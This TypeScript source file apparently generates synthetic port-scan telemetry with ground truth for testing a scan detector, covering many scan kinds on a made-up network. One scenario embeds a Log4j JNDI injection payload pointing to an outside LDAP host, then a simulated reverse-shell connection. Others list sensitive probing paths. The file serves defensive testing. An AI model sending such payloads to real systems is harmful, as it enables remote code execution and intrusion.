import type { IpAddress } from '../../net/ip-address.ts';
import { serviceKey } from '../../recon/model/contact.ts';
import type { Family, Shape } from '../../recon/model/episode.ts';
import type { Flow } from '../../recon/model/telemetry-record.ts';
import type { Instant } from '../../time/instant.ts';
import { Dice } from '../dice.ts';
import { outsider, publicServer, server, stranger, workstation } from './made-up-network.ts';
import { after, DAY, HOUR, MINUTE, SECOND } from './rhythm.ts';
import type { TcpCourse } from './tape.ts';
import { sceneOf, type PlantedScan, type Scene, type Traffic, type TrafficOptions } from './traffic.ts';

/** Kinds of scans that are made. The place in the list seeds their chance: add at the end. */
export const SCAN_KINDS = [
  'vertical-syn',
  'vertical-connect',
  'full-range',
  'horizontal-syn',
  'horizontal-ipv6',
  'block',
  'strobe',
  'fin',
  'null',
  'xmas',
  'ack',
  'udp',
  'icmp-sweep',
  'arp-sweep',
  'slow-vertical',
  'slow-horizontal',
  'decoys',
  'fragmented',
  'distributed',
  'distributed-thin',
  'service-enumeration',
  'request-enumeration',
  'one-client-many-servers',
  'internal-discovery',
  'interleaved',
  'transition',
] as const;

/** See SCAN_KINDS. */
export type ScanKind = (typeof SCAN_KINDS)[number];

/** Options of a scan. */
export interface ScanOptions extends TrafficOptions {
  /** Seconds between two probes of the slow kinds; the others have their tool's pace. */
  readonly interval: number;
}

type Probed = Pick<Flow, 'time' | 'source' | 'destination' | 'destinationPort' | 'protocol'>;

/** What a scan is called, beside what its probes tell. */
interface Claim {
  readonly families: readonly Family[];
  readonly shapes: readonly Shape[];
  readonly trueSource?: IpAddress;
  readonly entered?: IpAddress;
}

/** A scan of a kind, alone: mix it with benign traffic (`mixed`) to hide it. Begins at 10:00 of the first day. */
export function scanTraffic(kind: ScanKind, options: ScanOptions): Traffic {
  const scene = sceneOf(options, 1000 + SCAN_KINDS.indexOf(kind));
  const probes: Probed[] = [];
  const claim = WRITERS[kind]({
    ...scene,
    interval: options.interval * SECOND,
    begin: after(options.start, 10 * HOUR),
    probes,
  });
  return { records: scene.tape.records, truth: { scans: [planted(claim, probes)], ledger: [] } };
}

/** Several traffics as one sensor sees them. */
export function mixed(...traffics: readonly Traffic[]): Traffic {
  return {
    records: traffics.flatMap(({ records }) => records).toSorted((a, b) => a.time - b.time),
    truth: {
      scans: traffics.flatMap(({ truth }) => truth.scans),
      ledger: traffics.flatMap(({ truth }) => truth.ledger),
    },
  };
}

function planted(claim: Claim, probes: readonly Probed[]): PlantedScan {
  const times = probes.map(({ time }) => time);
  const first = times.reduce((a, b) => (b < a ? b : a));
  const last = times.reduce((a, b) => (b > a ? b : a));
  return {
    sources: [...new Set(probes.map(({ source }) => source))].toSorted(),
    trueSource: claim.trueSource,
    families: claim.families,
    shapes: claim.shapes,
    first,
    last,
    destinations: new Set(probes.map(({ destination }) => destination)).size,
    contacts: new Set(probes.map((one) => serviceKey(one.destination, one.destinationPort, one.protocol)))
      .size,
    entered: claim.entered,
  };
}

/** A scene with a stage for a scan. */
interface Stage extends Scene {
  /** Microseconds between two probes of the slow kinds. */
  readonly interval: number;
  readonly begin: Instant;
  /** What the truth is made of. */
  readonly probes: Probed[];
}

/** Nmap's favourites, roughly in order (nmap-services 7.95), then what a seeded shuffle of the rest gives. */
const FAVOURITES = [
  80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900,
];

/** So many distinct ports, favourites first, in random order. */
function somePorts(dice: Dice, count: number): number[] {
  const ports = new Set(FAVOURITES.slice(0, count));
  while (ports.size < count) ports.add(dice.int(1, 65_535));
  return shuffled(dice, [...ports]);
}

function shuffled<T>(dice: Dice, list: readonly T[]): T[] {
  const keyed = list.map((item) => [dice.unit(), item] as const);
  return keyed.toSorted((a, b) => a[0] - b[0]).map(([, item]) => item);
}

/** What a machine of ours does with a SYN: one in three serves the web, each third filters, beyond the desks is nobody. */
function fate(destination: IpAddress, port: number): 'open' | 'closed' | 'filtered' {
  const last = Number(destination.slice(destination.lastIndexOf('.') + 1));
  if (destination.startsWith('10.20.1.') && last >= 60) return 'filtered';
  if (last % 3 === 0 && (port === 80 || port === 443)) return 'open';
  if (last % 4 === 0 && (port === 22 || port === 445)) return 'open';
  return last % 5 === 1 ? 'filtered' : 'closed';
}

function syn(stage: Stage, at: Instant, source: IpAddress, destination: IpAddress, port: number): void {
  const how = { open: 'half-open', closed: 'refused', filtered: 'silent' } as const;
  probe(stage, at, source, destination, port, how[fate(destination, port)]);
}

function probe(
  stage: Stage,
  at: Instant,
  source: IpAddress,
  destination: IpAddress,
  port: number,
  how: TcpCourse,
): Flow {
  const flow = stage.tape.tcp(at, source, destination, port, how);
  stage.probes.push(flow);
  return flow;
}

/** Where external scans come from. */
const ATTACKER = outsider(120_001);
/** A desk that was taken over: what internal scans come from. */
const TAKEN = workstation(33);

/** Addresses of a /24 by last octet, as scanners go through them; not the one that scans. */
function network(prefix: string, from: number, to: number): IpAddress[] {
  const all = Array.from({ length: to - from + 1 }, (_, n) => `${prefix}.${from + n}` as IpAddress);
  return all.filter((address) => address !== TAKEN);
}

const WRITERS: Readonly<Record<ScanKind, (stage: Stage) => Claim>> = {
  'vertical-syn': (stage) => {
    let at = stage.begin;
    for (const port of somePorts(stage.dice, 1000)) {
      syn(stage, at, ATTACKER, publicServer(2), port);
      at = after(at, stage.dice.int(500, 4000));
    }
    return { families: ['fast-fan-out'], shapes: ['vertical'] };
  },

  'vertical-connect': (stage) => {
    let at = stage.begin;
    for (const port of somePorts(stage.dice, 200)) {
      const open = [80, 443, 22, 25].includes(port);
      probe(stage, at, TAKEN, server(2), port, open ? 'connect-scan' : 'refused');
      at = after(at, stage.dice.int(1000, 9000));
    }
    return { families: ['fast-fan-out', 'internal-discovery'], shapes: ['vertical'] };
  },

  'full-range': (stage) => {
    const ports = shuffled(
      stage.dice,
      Array.from({ length: 65_535 }, (_, n) => n + 1),
    );
    for (const [n, port] of ports.entries()) {
      const open = port === 22 || port === 443 || port === 8443;
      probe(
        stage,
        after(stage.begin, n * 1200),
        ATTACKER,
        publicServer(1),
        port,
        open ? 'half-open' : 'refused',
      );
    }
    return { families: ['full-range'], shapes: ['vertical'] };
  },

  'horizontal-syn': (stage) => {
    let at = stage.begin;
    for (const destination of shuffled(stage.dice, network('10.20.1', 1, 254))) {
      syn(stage, at, TAKEN, destination, 445);
      at = after(at, stage.dice.int(1000, 20_000));
    }
    return { families: ['fast-fan-out', 'internal-discovery'], shapes: ['horizontal'] };
  },

  'horizontal-ipv6': (stage) => {
    for (let n = 1; n <= 200; n += 1) {
      const destination = `2001:db8:20:1::${n.toString(16)}` as IpAddress;
      const source = '2001:db8:ffff::5' as IpAddress;
      probe(stage, after(stage.begin, n * 30_000), source, destination, 22, n < 20 ? 'refused' : 'silent');
    }
    return { families: ['fast-fan-out'], shapes: ['horizontal'] };
  },

  block: (stage) => {
    const pairs = network('203.0.113', 1, 64).flatMap((destination) =>
      [21, 22, 80, 443, 3389, 8080, 8443, 5900].map((port) => [destination, port] as const),
    );
    for (const [n, [destination, port]] of shuffled(stage.dice, pairs).entries())
      syn(stage, after(stage.begin, n * 5000), ATTACKER, destination, port);
    return { families: ['fast-fan-out'], shapes: ['block', 'strobe'] };
  },

  strobe: (stage) => {
    let at = stage.begin;
    for (const destination of network('203.0.113', 1, 90)) {
      for (const port of [22, 80, 443]) {
        syn(stage, at, ATTACKER, destination, port);
        at = after(at, stage.dice.int(2000, 30_000));
      }
    }
    return { families: ['fast-fan-out'], shapes: ['strobe', 'block'] };
  },

  fin: (stage) => flagScan(stage, 'fin-refused', 'fin-silent'),
  null: (stage) => flagScan(stage, 'null-refused', 'null-silent'),
  xmas: (stage) => flagScan(stage, 'xmas-refused', 'xmas-silent'),
  ack: (stage) => flagScan(stage, 'ack-refused', 'ack-silent'),

  udp: (stage) => {
    // Linux sends one ICMP error a second to one host (RFC 1812, 4.3.2.8): the rest is silence.
    const ports = [
      ...new Set([
        53,
        67,
        69,
        111,
        123,
        137,
        161,
        500,
        514,
        520,
        623,
        1434,
        1900,
        4500,
        5353,
        ...somePorts(stage.dice, 60),
      ]),
    ];
    for (const [n, port] of ports.entries()) {
      const at = after(stage.begin, n * 0.2 * SECOND);
      stage.probes.push(stage.tape.udp(at, ATTACKER, publicServer(3), port, port === 53 || port === 161));
      if (n % 5 === 0 && port !== 53 && port !== 161)
        stage.tape.icmp(after(at, 300), publicServer(3), ATTACKER, 3, 3, 'backscatter');
    }
    return { families: ['fast-fan-out'], shapes: ['vertical'] };
  },

  'icmp-sweep': (stage) => {
    for (const [n, destination] of network('10.20.1', 1, 254).entries()) {
      const how = fate(destination, 0) === 'filtered' || n < 9 ? 'silent' : 'answered';
      stage.probes.push(stage.tape.icmp(after(stage.begin, n * 9000), TAKEN, destination, 8, 0, how));
    }
    return { families: ['fast-fan-out', 'internal-discovery'], shapes: ['horizontal'] };
  },

  'arp-sweep': (stage) => {
    for (const [n, destination] of network('10.20.1', 1, 254).entries())
      stage.probes.push(
        stage.tape.arp(
          after(stage.begin, n * 2000),
          TAKEN,
          destination,
          fate(destination, 0) !== 'filtered' && n >= 9,
        ),
      );
    return { families: ['fast-fan-out', 'internal-discovery'], shapes: ['horizontal'] };
  },

  'slow-vertical': (stage) => {
    const ports = somePorts(stage.dice, slowProbes(stage));
    for (const [n, port] of ports.entries())
      probe(stage, after(stage.begin, n * stage.interval), ATTACKER, publicServer(4), port, 'refused');
    return { families: slowFamilies(stage, ports.length), shapes: ['vertical'] };
  },

  'slow-horizontal': (stage) => {
    const hosts = shuffled(stage.dice, [
      ...network('203.0.113', 1, 190),
      ...network('10.20.10', 30, 250),
    ]).slice(0, slowProbes(stage));
    for (const [n, destination] of hosts.entries())
      probe(stage, after(stage.begin, n * stage.interval), ATTACKER, destination, 3389, 'silent');
    return { families: slowFamilies(stage, hosts.length), shapes: ['horizontal'] };
  },

  decoys: (stage) => {
    const sources = shuffled(stage.dice, [
      ATTACKER,
      outsider(7),
      outsider(4711),
      outsider(9001),
      outsider(31_337),
    ]);
    const destination = publicServer(5);
    for (const [n, port] of somePorts(stage.dice, 100).entries()) {
      const open = port === 22 || port === 443;
      for (const [place, source] of sources.entries()) {
        const at = after(stage.begin, n * 40_000 + place * 150);
        probe(
          stage,
          at,
          source,
          destination,
          port,
          open ? (source === ATTACKER ? 'half-open' : 'half-open-left') : 'refused',
        );
      }
    }
    for (let n = 0; n < 3; n += 1)
      stage.tape.tcp(
        after(stage.begin, 20 * MINUTE + n * 30 * SECOND),
        ATTACKER,
        destination,
        n === 0 ? 443 : 22,
        'closed',
        { service: n === 0 ? 'tls' : 'ssh' },
      );
    return { families: ['fragmented-or-decoy'], shapes: ['vertical'], trueSource: ATTACKER };
  },

  fragmented: (stage) => {
    for (const [n, port] of somePorts(stage.dice, 80).entries()) {
      const flow = probe(stage, after(stage.begin, n * 15_000), ATTACKER, publicServer(6), port, 'refused');
      stage.tape.alert(flow, {
        provider: 'zeek-weird',
        signature: 'excessively_small_fragment',
        signatureId: 0,
        category: '',
        severity: 0,
      });
    }
    return { families: ['fragmented-or-decoy'], shapes: ['vertical'] };
  },

  distributed: (stage) => {
    const ports = somePorts(stage.dice, 400);
    for (const [n, port] of ports.entries())
      probe(
        stage,
        after(stage.begin, n * 0.7 * SECOND),
        outsider(110_000 + (n % 8)),
        publicServer(7),
        port,
        'refused',
      );
    return { families: ['distributed'], shapes: ['vertical'] };
  },

  'distributed-thin': (stage) => {
    // Two targets a source: no source by itself is worth a word.
    const hosts = network('203.0.113', 1, 120);
    for (const [n, destination] of hosts.entries())
      probe(stage, after(stage.begin, n * 20 * SECOND), stranger(n % 60), destination, 8291, 'silent');
    return { families: ['distributed'], shapes: ['horizontal'] };
  },

  'service-enumeration': (stage) => {
    const destination = server(3);
    let at = stage.begin;
    for (const port of somePorts(stage.dice, 60)) {
      const open = [22, 80, 443].includes(port);
      probe(stage, at, TAKEN, destination, port, open ? 'half-open' : 'refused');
      at = after(at, 3000);
    }
    at = after(at, 2 * SECOND);
    for (let n = 0; n < 6; n += 1) {
      const flow = stage.tape.tcp(after(at, n * 0.4 * SECOND), TAKEN, destination, 22, 'closed', {
        service: 'ssh',
        sent: 30,
        received: 40,
        duration: 0.05,
      });
      stage.tape.app(flow, {
        service: 'ssh',
        agent: 'SSH-2.0-Nmap-SSH2-Hostkey',
        hassh: `b12d2871a1189eff20364cf5333619e${n}`,
        accepted: false,
      });
    }
    const targets = [
      '/',
      '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
      '/nmaplowercheck1763798400',
      '/robots.txt',
      '/.git/HEAD',
      '/favicon.ico',
      '/sdk',
      '/evox/about',
      '/HNAP1',
      '/manager/html',
    ];
    for (const [n, target] of targets.entries()) {
      const flow = stage.tape.tcp(after(at, (3 + n * 0.1) * SECOND), TAKEN, destination, 80, 'closed', {
        service: 'http',
        duration: 0.03,
        sent: 160,
        received: 400,
      });
      stage.tape.app(flow, {
        service: 'http',
        action: n % 4 === 3 ? 'OPTIONS' : 'GET',
        name: destination,
        target,
        agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
        status: n === 0 ? '200' : '404',
        accepted: true,
      });
    }
    for (let n = 0; n < 14; n += 1) {
      const flow = stage.tape.tcp(
        after(at, (5 + n * 0.2) * SECOND),
        TAKEN,
        destination,
        443,
        'reset-by-source',
        { service: 'tls', duration: 0.04, sent: 200, received: 100 },
      );
      stage.tape.app(flow, {
        service: 'tls',
        ja4: `t1${n % 4}i${10 + n}0400_${(0xabc0 + n).toString(16)}00000000_000000000000`,
        accepted: n % 3 === 0,
        status: n % 3 === 0 ? '' : 'handshake_failure',
      });
    }
    return { families: ['service-enumeration'], shapes: ['vertical', 'single'] };
  },

  'request-enumeration': (stage) => {
    for (let n = 0; n < 800; n += 1) {
      const flow = stage.tape.tcp(after(stage.begin, n * 60_000), ATTACKER, publicServer(0), 80, 'closed', {
        service: 'http',
        duration: 0.05,
        sent: 200,
        received: 500,
      });
      stage.probes.push(flow);
      stage.tape.app(flow, {
        service: 'http',
        action: 'GET',
        name: 'www0.corp.example',
        target: `/${stage.dice.int(1, 1e9).toString(36)}`,
        agent: 'gobuster/3.8',
        status: n % 100 === 7 ? '200' : '404',
        accepted: true,
      });
    }
    return { families: ['service-enumeration', 'application-fingerprint'], shapes: ['single'] };
  },

  'one-client-many-servers': (stage) => {
    for (const [n, destination] of network('203.0.113', 1, 120).entries()) {
      const open = n % 3 === 0;
      const at = after(stage.begin, n * 0.5 * SECOND);
      if (!open) {
        probe(stage, at, ATTACKER, destination, 443, 'refused');
        continue;
      }
      const flow = stage.tape.tcp(at, ATTACKER, destination, 443, 'reset-by-source', {
        service: 'tls',
        duration: 0.05,
        sent: 250,
        received: 3000,
      });
      stage.probes.push(flow);
      stage.tape.app(flow, {
        service: 'tls',
        ja4: 't13i1909h1_9dc949149365_97f8aa674fd9',
        ja3: '473cd7cb9faa642487833865d516e578',
        accepted: true,
      });
    }
    return { families: ['application-fingerprint', 'fast-fan-out'], shapes: ['horizontal'] };
  },

  'internal-discovery': (stage) => {
    const hosts = [
      ...Array.from({ length: 50 }, (_, n) => workstation(n)),
      ...Array.from({ length: 12 }, (_, n) => server(n)),
    ];
    for (const [n, destination] of hosts.entries()) {
      if (destination === TAKEN) continue;
      for (const [place, port] of [445, 135, 3389, 5985].entries()) {
        const at = after(stage.begin, n * 9 * SECOND + place * SECOND);
        const flow = probe(stage, at, TAKEN, destination, port, 'closed');
        if (port === 445)
          stage.tape.app(flow, {
            service: 'smb',
            action: 'TREE_CONNECT',
            name: String.raw`\\${destination}\IPC$`,
            accepted: true,
          });
      }
    }
    return { families: ['internal-discovery'], shapes: ['block', 'horizontal', 'strobe'] };
  },

  interleaved: (stage) => {
    // Four sessions with popular hosts before each probe: what made the published test deaf for an hour.
    for (const [n, port] of somePorts(stage.dice, 60).entries()) {
      for (let good = 0; good < 4; good += 1) {
        const at = after(stage.begin, n * 10 * SECOND + good * SECOND);
        stage.tape.tcp(at, TAKEN, outsider(stage.dice.int(0, 3000)), 443, 'closed', { service: 'tls' });
      }
      probe(stage, after(stage.begin, n * 10 * SECOND + 5 * SECOND), TAKEN, server(4), port, 'refused');
    }
    return { families: [], shapes: ['vertical'] };
  },

  transition: (stage) => {
    const destination = publicServer(8);
    for (const [n, port] of somePorts(stage.dice, 120).entries())
      probe(
        stage,
        after(stage.begin, n * 20_000),
        ATTACKER,
        destination,
        port,
        port === 8080 ? 'half-open' : 'refused',
      );
    let at = after(stage.begin, 5 * MINUTE);
    for (const [n, target] of ['/', '/manager/html', '/login', '/actuator/env'].entries()) {
      const flow = stage.tape.tcp(after(at, n * SECOND), ATTACKER, destination, 8080, 'closed', {
        service: 'http',
      });
      stage.tape.app(flow, {
        service: 'http',
        action: 'GET',
        name: destination,
        target,
        agent: 'python-requests/2.32',
        status: n === 0 ? '200' : '404',
        accepted: true,
      });
    }
    at = after(at, 10 * MINUTE);
    const hit = stage.tape.tcp(at, ATTACKER, destination, 8080, 'closed', { service: 'http' });
    stage.tape.app(hit, { service: 'http', action: 'POST', name: destination, target: '/%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D', agent: '${jndi:ldap://192.0.2.9/a}', status: '500', accepted: true }); // prettier-ignore
    stage.tape.alert(hit, {
      signature: 'ET EXPLOIT Apache log4j RCE Attempt',
      signatureId: 2_034_647,
      category: 'Attempted Administrator Privilege Gain',
      severity: 1,
    });
    stage.tape.tcp(after(at, 4 * SECOND), destination, ATTACKER, 4444, 'open', {
      duration: 900,
      sent: 90_000,
      received: 4000,
    });
    stage.tape.tcp(after(at, 30 * SECOND), destination, outsider(99_999), 80, 'closed', { service: 'http' });
    return { families: ['fast-fan-out'], shapes: ['vertical'], entered: destination };
  },
};

/** FIN, NULL, Xmas and ACK scans look alike to a sensor: a hundred ports, each answered by RST or by nothing. */
function flagScan(stage: Stage, refused: TcpCourse, silent: TcpCourse): Claim {
  for (const [n, port] of somePorts(stage.dice, 100).entries())
    probe(
      stage,
      after(stage.begin, n * 12_000),
      ATTACKER,
      publicServer(9),
      port,
      n % 10 === 3 ? silent : refused,
    );
  return { families: ['fast-fan-out'], shapes: ['vertical'] };
}

/** Probes of a slow scan: for a month, at least a dozen, at most 300. */
function slowProbes({ interval }: Stage): number {
  return Math.min(300, Math.max(12, Math.floor((25 * DAY) / interval)));
}

/** "Slow" is what lasts for four hours at least; a few probes a minute for less than that are no family of their own. */
function slowFamilies({ interval }: Stage, probes: number): readonly Family[] {
  return (probes - 1) * interval >= 4 * HOUR ? ['slow'] : [];
}
